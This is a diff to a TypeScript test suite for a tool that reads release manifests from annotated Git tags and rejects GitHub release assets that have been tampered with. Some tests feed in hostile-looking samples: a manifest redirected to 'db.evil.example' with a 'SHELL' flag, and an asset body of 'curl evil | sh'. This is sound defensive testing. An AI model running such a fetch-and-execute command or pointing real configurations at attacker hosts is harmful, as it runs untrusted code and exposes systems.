@@ -8,6 +8,7 @@ import {
   manifestFromTagMessage,
   readRelease,
   readReleaseDetails,
+  TamperedReleaseError,
   tagForRelease,
   tagMessage,
   upgradeManifest,
@@ -49,35 +50,40 @@ function releaseJson(assets: Array<{ id: number; name: string }>) {
   return { id: 7, tag_name: TAG, html_url: `https://github.com/immut-test/app/releases/tag/${TAG}`, assets };
 }
 
+const TAG_SHA = 'a'.repeat(40);
+
+/** The annotated tag as tag-release records it: ref → tag object (message holds the manifest). */
+function tagged(scope: nock.Scope, tag = TAG, object: Record<string, unknown> = {}): nock.Scope {
+  return scope
+    .get(`${REPO}/git/ref/${enc(`tags/${tag}`)}`)
+    .reply(200, { ref: `refs/tags/${tag}`, object: { type: 'tag', sha: TAG_SHA } })
+    .get(`${REPO}/git/tags/${TAG_SHA}`)
+    .reply(200, {
+      sha: TAG_SHA,
+      tag,
+      message: tagMessage(V1),
+      object: { type: 'commit', sha: V1.source.sha },
+      ...object,
+    });
+}
+
+const read = (tag = TAG) => readReleaseDetails({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag });
+
 describe('readRelease', () => {
-  it('reads the manifest from the release asset', async () => {
-    nock(API)
+  it('reads the manifest from the annotated tag and checks the release asset says the same', async () => {
+    tagged(nock(API))
       .get(`${REPO}/releases/tags/${enc(TAG)}`)
       .reply(200, releaseJson([{ id: 11, name: 'manifest.json' }]))
       .get(`${REPO}/releases/assets/11`)
       .matchHeader('accept', 'application/octet-stream')
       .reply(200, writeManifest(V1), { 'content-type': 'application/octet-stream' });
-    const details = await readReleaseDetails({
-      octokit: octokit(),
-      owner: 'immut-test',
-      repo: 'app',
-      tag: TAG,
-    });
-    expect(details).toMatchObject({ manifest: V1, from: 'release-asset', tag: TAG });
+    expect(await read()).toMatchObject({ manifest: V1, from: 'tag-message', tag: TAG });
   });
 
-  it('falls back to the annotated tag message when there is no release', async () => {
-    nock(API)
+  it('reads the annotated tag when there is no GitHub release', async () => {
+    tagged(nock(API))
       .get(`${REPO}/releases/tags/${enc(TAG)}`)
-      .reply(404, { message: 'Not Found' })
-      .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
-      .reply(200, { ref: `refs/tags/${TAG}`, object: { type: 'tag', sha: 'a'.repeat(40) } })
-      .get(`${REPO}/git/tags/${'a'.repeat(40)}`)
-      .reply(200, {
-        sha: 'a'.repeat(40),
-        message: tagMessage(V1),
-        object: { type: 'commit', sha: V1.source.sha },
-      });
+      .reply(404, { message: 'Not Found' });
     const manifest = await readRelease({
       octokit: octokit(),
       owner: 'immut-test',
@@ -88,10 +94,41 @@ describe('readRelease', () => {
     expect(manifest).toEqual(V1);
   });
 
-  it('says the release does not exist when neither release nor tag is there', async () => {
-    nock(API)
+  it('refuses a release whose manifest.json was replaced, naming the fields but not their values', async () => {
+    const tampered = { ...V1, data: { ...V1.data, endpoint: 'db.evil.example' }, flags: { SHELL: '1' } };
+    tagged(nock(API))
       .get(`${REPO}/releases/tags/${enc(TAG)}`)
-      .reply(404, { message: 'Not Found' })
+      .reply(200, releaseJson([{ id: 11, name: 'manifest.json' }]))
+      .get(`${REPO}/releases/assets/11`)
+      .reply(200, JSON.stringify(tampered), { 'content-type': 'application/octet-stream' });
+    const attempt = read();
+    await expect(attempt).rejects.toThrow(TamperedReleaseError);
+    await expect(attempt).rejects.toThrow(
+      /manifest\.json of the GitHub release immut\/prod\/api\/b000042 differs from the manifest in its annotated tag \(fields data\.endpoint, flags\.FEATURE_X, flags\.LOG_LEVEL, flags\.SHELL\)/,
+    );
+    await expect(attempt).rejects.not.toThrow(/evil/);
+  });
+
+  it('refuses a release asset that is not even JSON', async () => {
+    tagged(nock(API))
+      .get(`${REPO}/releases/tags/${enc(TAG)}`)
+      .reply(200, releaseJson([{ id: 11, name: 'manifest.json' }]))
+      .get(`${REPO}/releases/assets/11`)
+      .reply(200, 'curl evil | sh', { 'content-type': 'application/octet-stream' });
+    await expect(read()).rejects.toThrow(
+      /differs from the manifest in its annotated tag \(the asset is not JSON\)/,
+    );
+  });
+
+  it('refuses a ref moved to a tag object made for another tag, and a tag remade on another commit', async () => {
+    tagged(nock(API), TAG, { tag: 'immut/prod/api/b000041' });
+    await expect(read()).rejects.toThrow(/made as 'immut\/prod\/api\/b000041'/);
+    tagged(nock(API), TAG, { object: { type: 'commit', sha: 'f'.repeat(40) } });
+    await expect(read()).rejects.toThrow(/is on commit f{40}, but its manifest was recorded from/);
+  });
+
+  it('says the release does not exist when there is no tag, whatever GitHub release there is', async () => {
+    nock(API)
       .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
       .reply(404, { message: 'Not Found' });
     await expect(
@@ -101,8 +138,6 @@ describe('readRelease', () => {
 
   it('refuses a lightweight tag, which holds no manifest', async () => {
     nock(API)
-      .get(`${REPO}/releases/tags/${enc(TAG)}`)
-      .reply(404, { message: 'Not Found' })
       .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
       .reply(200, { ref: `refs/tags/${TAG}`, object: { type: 'commit', sha: V1.source.sha } });
     await expect(
@@ -111,25 +146,19 @@ describe('readRelease', () => {
   });
 
   it('refuses a manifest recorded under another release tag', async () => {
-    nock(API)
-      .get(`${REPO}/releases/tags/${enc('immut/prod/api/b7')}`)
-      .reply(200, { ...releaseJson([{ id: 11, name: 'manifest.json' }]), tag_name: 'immut/prod/api/b7' })
-      .get(`${REPO}/releases/assets/11`)
-      .reply(200, writeManifest(V1), { 'content-type': 'application/octet-stream' });
-    await expect(
-      readRelease({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag: 'immut/prod/api/b7' }),
-    ).rejects.toThrow(`is for ${TAG}`);
+    tagged(nock(API), 'immut/prod/api/b7');
+    await expect(read('immut/prod/api/b7')).rejects.toThrow(`is for ${TAG}`);
   });
 
   it('explains a rejected token (401) and a token that cannot read the repository (403)', async () => {
     nock(API)
-      .get(`${REPO}/releases/tags/${enc(TAG)}`)
+      .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
       .reply(401, { message: 'Bad credentials' });
     await expect(
       readRelease({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag: TAG }),
     ).rejects.toThrow('GitHub rejected the token');
     nock(API)
-      .get(`${REPO}/releases/tags/${enc(TAG)}`)
+      .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
       .reply(403, { message: 'Resource not accessible by integration' });
     await expect(
       readRelease({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag: TAG }),
